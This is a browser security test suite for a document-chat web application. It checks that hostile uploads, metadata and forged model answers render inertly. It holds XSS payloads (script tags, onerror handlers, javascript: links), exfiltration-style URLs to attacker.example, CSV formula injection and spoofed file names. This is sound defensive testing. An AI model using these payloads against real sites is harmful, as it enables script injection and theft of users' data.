import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { openBrowserHouse, type Person } from '../support/browser-house.ts';
import { textFile } from '../support/made-files.ts';
import { describeWith } from '../support/needs.ts';

/** A folder with a folder `bad` of hostile files beside those made here. */
const evalDir = process.env['KA_EVAL_DIR'];
const bad = (name: string) => join(evalDir ?? '', 'bad', name);

const RUN = 'window.__ran=(window.__ran||0)+1';
const MARKUP = `<img src=x onerror="${RUN}"><svg onload="${RUN}"><script>${RUN}</script>`;
const BREAKOUT = `"'--></title></textarea><img src=//attacker.example/i onerror=${RUN}>`;

const files = [
  textFile(
    'hostile.md',
    `# Mooring ${MARKUP}\n\nThe mooring fee of the hostile jetty is 12 crowns. ${MARKUP}\n\n[click](javascript:${RUN}) ![p](https://attacker.example/p.png) <iframe src="javascript:${RUN}"></iframe>\n\n| a | b |\n|---|---|\n| ${MARKUP} | <a href="javascript:${RUN}">x</a> |\n`,
  ),
  textFile(
    'page.html',
    `<title>Jetty ${BREAKOUT}</title><base href="https://attacker.example/"><body onload="${RUN}"><h1>The jetty</h1><p>The hostile jetty is 40 metres long.</p>${MARKUP}<style>@import "https://attacker.example/s.css"</style></body>`,
  ),
  textFile(
    'cells.csv',
    `name,note\n"${MARKUP.replaceAll('"', '""')}","=HYPERLINK(""https://attacker.example"")"\n`,
  ),
  textFile(`${BREAKOUT.replaceAll('/', '_')}.md`, '# Plain\n\nA plain text with a hostile name.\n'),
  textFile('\u202Efdp.exe.md', '# Turned\n\nA name that reads backwards.\n'),
];

describeWith('browser', 'hostile content', (executablePath) => {
  const house = openBrowserHouse(executablePath);

  test('names, titles, tags and texts of documents are shown as what they are on every page', async () => {
    const person = house.admin;
    await person.api
      .upload(files.map(({ name, buffer }) => ({ name, bytes: buffer })))
      .then(({ taskId }) => person.api.finished(taskId));
    await decorate(person);
    await walk(person);
  });

  describe.skipIf(evalDir === undefined || !existsSync(bad('')))('of the collection in KA_EVAL_DIR', () => {
    test('is shown as what it is', async () => {
      const person = await house.newPerson();
      const contents = ['xss.html', 'xss.md', 'xss-cells.csv', 'inj-exfil.md'].map((name) => ({
        name,
        bytes: readFileSync(bad(name)),
      }));
      const names = (JSON.parse(readFileSync(bad('filenames.json'), 'utf8')) as { filename: string }[]).map(
        ({ filename }, i) => ({
          name: filename,
          bytes: Buffer.from(`# Named ${i}\n\nA text of its own: ${i}.\n`),
        }),
      );
      const { taskId } = await person.api.upload([...contents, ...names]);
      await person.api.finished(taskId);
      await walk(person);
    });
  });

  test('what a model writes is shown as what it is, and nothing of it is fetched', async () => {
    const person = await house.newPerson();
    const { taskId } = await person.api.upload([{ name: 'hostile.md', bytes: files[0]?.buffer as Buffer }]);
    await person.api.finished(taskId);
    const page = await visitTrapped(person, '/chat');
    // a citation of a document that is not there, at a place that is none, beside markers that cite nothing
    house.expectFaults(page, /404 on .*\/api\/v1\/documents\//, /400 on .*\/api\/v1\/documents\//);
    const answer = [
      `Said plainly ${MARKUP} [1] and forged [2] and [99].`,
      '![status](https://attacker.example/p.png?d=secret) [![x](https://attacker.example/y.png)](javascript:alert(1))',
      `[one](javascript:${RUN}) [two](JaVaScRiPt:${RUN}) [three](data:text/html,<script>${RUN}</script>) [four](//attacker.example/x) <javascript:${RUN}> [five](&#x6A;avascript:${RUN})`,
      `[plain](https://attacker.example/t?q=1) https://attacker.example/auto`,
      `[ref]\n\n[ref]: javascript:${RUN} "title"`,
      `| a | b |\n|---|---|\n| ${MARKUP} | \`<script>${RUN}</script>\` |`,
      `\`\`\`html"><img src=x onerror=${RUN}>\n${MARKUP}\n\`\`\``,
      `<iframe srcdoc="<script>${RUN}</script>"></iframe><form action="https://attacker.example"><input autofocus onfocus=${RUN}></form><style>@import "https://attacker.example/s.css"</style>`,
      `<citation-marker marker="1">x</citation-marker> <unverified-sentence>y</unverified-sentence>`,
    ].join('\n\n');
    const forged = (marker: number, documentId: string, title: string) => ({
      marker,
      documentId,
      chunkId: `${documentId}-0`,
      title,
      page: 1,
      start: 0,
      end: 5,
      quote: `Quoted ${MARKUP}`,
      supported: marker === 1,
    });
    const citations = [
      forged(1, '019f0000-0000-7000-8000-000000000000', `Forged ${MARKUP}`),
      forged(2, '../../me', BREAKOUT),
    ];
    const done = {
      id: '019f0000-0000-7000-8000-000000000001',
      answer,
      answered: true,
      citations,
      sources: [],
      model: `hostile ${MARKUP}`,
      cached: false,
      usage: { promptTokens: 1, completionTokens: 1, costUsd: 0 },
      timings: { embedMs: 1, vectorMs: 1, keywordMs: 1, rerankMs: 0, generateMs: 1, totalMs: 4 },
    };
    const events: [string, unknown][] = [
      ['sources', []],
      ['token', { text: answer }],
      ...citations.map((citation): [string, unknown] => ['citation', citation]),
      ['done', done],
    ];
    await page.route('**/api/v1/query', (route) =>
      route.fulfill({
        contentType: 'text/event-stream',
        body: events
          .map(([event, data], i) => `event: ${event}\nid: ${i}\ndata: ${JSON.stringify(data)}\n\n`)
          .join(''),
      }),
    );
    await page.getByLabel('Question', { exact: true }).fill(`What ${MARKUP}`);
    await page.keyboard.press('Enter');
    const shown = page.getByRole('article', { name: 'Answer' });
    await shown
      .getByRole('button', { name: /^Source 1: Forged/ })
      .first()
      .waitFor();
    // drawn as Markdown, which comes a moment after the words
    await shown.getByRole('link').first().waitFor();
    await expectHarmless(page);
    // what looks like a link is one only where it leads to the web, in a window of its own
    const links = await shown
      .getByRole('link')
      .evaluateAll((all) =>
        all.map((link) => [link.getAttribute('href'), link.getAttribute('target'), link.getAttribute('rel')]),
      );
    expect(new Set(links.map(([href]) => href))).toEqual(
      new Set(['https://attacker.example/t?q=1', 'https://attacker.example/auto']),
    );
    for (const [, target, rel] of links) {
      expect(target).toBe('_blank');
      expect(rel).toContain('noopener');
    }
    expect(await shown.locator('img').count()).toBe(0);
    expect(await shown.getByRole('button', { name: /^Source 99/ }).count()).toBe(0);
    expect(await shown.innerText()).toContain('[99]');

    for (const marker of [1, 2]) {
      const chip = shown.getByRole('button', { name: new RegExp(`^Source ${marker}: `) }).first();
      await chip.hover();
      await page.getByRole('tooltip').waitFor();
      await expectHarmless(page);
      await chip.click();
      await page.getByRole('complementary', { name: 'Source' }).waitFor();
      await expectHarmless(page);
      await page.getByRole('button', { name: 'Close the source' }).click();
    }
    await page.getByRole('button', { name: 'Copy code' }).first().hover();
    await expectHarmless(page);
  });

  async function visitTrapped(person: Person, path: string): Promise<Page> {
    const page = await house.visit({ as: person, path });
    page.on('request', (request) => {
      const { pathname } = new URL(request.url());
      if (['image', 'media', 'font', 'stylesheet', 'object', 'iframe'].includes(request.resourceType()))
        expect(pathname).toMatch(/^\/(assets\/|icon\.svg$)/);
    });
    return page;
  }

  /** Names of all kinds that a person can give. */
  async function decorate({ api }: Person): Promise<void> {
    const send = async (method: string, path: string, body: object) => {
      const response = await fetch(house.url + path, {
        method,
        body: JSON.stringify(body),
        headers: { authorization: `Bearer ${api.token}`, 'content-type': 'application/json' },
      });
      expect(response.ok, `${method} ${path}: ${response.status}`).toBe(true);
    };
    const { items } = await api.get<{ items: { id: string }[] }>('/api/v1/documents');
    await send('PATCH', `/api/v1/documents/${items[0]?.id}`, {
      title: `Titled ${BREAKOUT}${MARKUP}`,
      tags: ['<script>x</script>', '<img src=x onerror=alert(1)>', '{{7*7}}'],
    });
    await send('POST', '/api/v1/collections', { name: `Kept ${BREAKOUT.slice(0, 80)}` });
    await send('PATCH', '/api/v1/me', { name: `Eve ${BREAKOUT.slice(0, 80)}` });
    await send('POST', '/api/v1/conversations', { title: `Said ${MARKUP}` });
    await send('POST', '/api/v1/api-keys', { name: '<svg onload=alert(1)>' });
  }

  /** Over every page that shows what others wrote. */
  async function walk(person: Person): Promise<void> {
    const page = await visitTrapped(person, '/library');
    const { items } = await person.api.get<{ items: { id: string; pages: number }[] }>(
      '/api/v1/documents?limit=100',
    );
    const { items: chats } = await person.api.get<{ items: { id: string }[] }>('/api/v1/conversations');
    const paths = [
      '/',
      '/chat',
      '/library',
      '/collections',
      '/settings',
      ...(person === house.admin ? ['/admin', '/admin/audit', '/admin/jobs', '/admin/usage'] : []),
      ...chats.map(({ id }) => `/chat/${id}`),
      ...items.flatMap(({ id }) => [`/library/${id}?page=1&start=0&end=40`, `/library/${id}?tab=passages`]),
    ];
    for (const path of paths) {
      await page.goto(house.url + path);
      await page.locator('main#page').waitFor();
      await expect.poll(() => page.getByRole('status', { name: 'Loading' }).count()).toBe(0);
      await expectHarmless(page);
    }
    await page.goto(`${house.url}/chat`);
    await page
      .getByLabel('Question', { exact: true })
      .fill('What is the mooring fee of the hostile jetty, and the warranty?');
    await page.keyboard.press('Enter');
    await page.getByRole('button', { name: 'Answer again' }).waitFor();
    await expectHarmless(page);
    const chip = page.getByRole('button', { name: /^Source 1: / }).first();
    if ((await chip.count()) > 0) {
      await chip.click();
      await page.locator('mark').first().waitFor();
      await expectHarmless(page);
    }
    await page.keyboard.press('ControlOrMeta+k');
    await page.getByRole('combobox').fill('hostile');
    await page
      .getByRole('group', { name: 'Passages' })
      .or(page.getByRole('group', { name: 'Commands' }))
      .first()
      .waitFor();
    await expectHarmless(page);
  }
});

/** Nothing ran, and nothing is in the page that could. */
async function expectHarmless(page: Page): Promise<void> {
  const found = await page.evaluate(() => ({
    ran: (window as { __ran?: number }).__ran ?? 0,
    active: [
      ...document.querySelectorAll(
        'iframe, frame, object, embed, base, form[action], meta[http-equiv=refresh], script:not([src]), style, link[rel=stylesheet]:not([href^="/assets/"])',
      ),
      ...[...document.querySelectorAll('*')].filter((element) =>
        [...element.attributes].some(
          ({ name, value }) =>
            name.startsWith('on') ||
            (/^(href|src|action|formaction|xlink:href)$/.test(name) &&
              /^\s*(javascript|data|vbscript):/i.test(value)),
        ),
      ),
    ].map((element) => element.outerHTML.slice(0, 200)),
    elsewhere: [...document.querySelectorAll('img, video, audio, source, use, image')]
      .map((element) => element.getAttribute('src') ?? element.getAttribute('href') ?? '')
      .filter((source) => source !== '' && !source.startsWith('/') && !source.startsWith('blob:')),
    origin: location.origin,
    title: document.title.endsWith('Knowledge Assistant'),
  }));
  expect(found).toEqual({
    ran: 0,
    active: [],
    elsewhere: [],
    origin: new URL(page.url()).origin,
    title: true,
  });
}
